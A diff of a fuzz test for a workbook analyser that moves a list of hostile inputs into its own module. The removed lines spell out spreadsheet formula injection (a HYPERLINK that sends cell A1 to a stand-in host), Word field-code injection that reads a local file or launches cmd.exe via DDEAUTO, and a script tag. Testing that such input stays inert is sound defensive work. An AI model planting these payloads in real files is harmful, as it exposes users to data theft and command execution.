@@ -12,6 +12,7 @@ import fc from "fast-check";
 import { analyzeWorkbook, toComputeOutput, type Cell, type SheetGrid } from "../../src/core";
 import { FINDING_CODES } from "../../src/core/validate/findings";
 import { computeOutputSchema } from "../../src/cli/schema";
+import { HOSTILE_TEXT } from "./hostileText";
 import {
   capaian,
   close,
@@ -27,23 +28,6 @@ import {
 const RUNS = Number(process.env.LAKIP_FUZZ_RUNS ?? 150);
 const SEED = Number(process.env.LAKIP_FUZZ_SEED ?? 20261130);
 const params = (runs = RUNS) => ({ seed: SEED, numRuns: runs });
-
-/** Text that must stay inert wherever it goes: formula prefixes, OOXML and HTML fragments, field codes. */
-export const HOSTILE_TEXT = [
-  '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
-  "+1+1",
-  "-2+3",
-  "@SUM(A1:A9)",
-  '</w:t></w:r><w:r><w:fldSimple w:instr="HYPERLINK http://contoh.invalid"/></w:r><w:r><w:t>',
-  '<w:instrText xml:space="preserve"> INCLUDETEXT "C:\\\\rahasia.txt" </w:instrText>',
-  "{ DDEAUTO c:\\windows\\system32\\cmd.exe }",
-  "]]><!--",
-  "<script>alert(1)</script>",
-  "&amp;&lt;&#0;&#xFFFF;",
-  "\u0000\u0001\u000b\u001f\ud800",
-  "Rekap Capaian",
-  "Sasaran\r\n\tbaris baru",
-];
 
 /**
  * Magnitudes where C stays finite (|v| 0 or >= 0,001, at most 1e9): a C that overflows is spec 3's
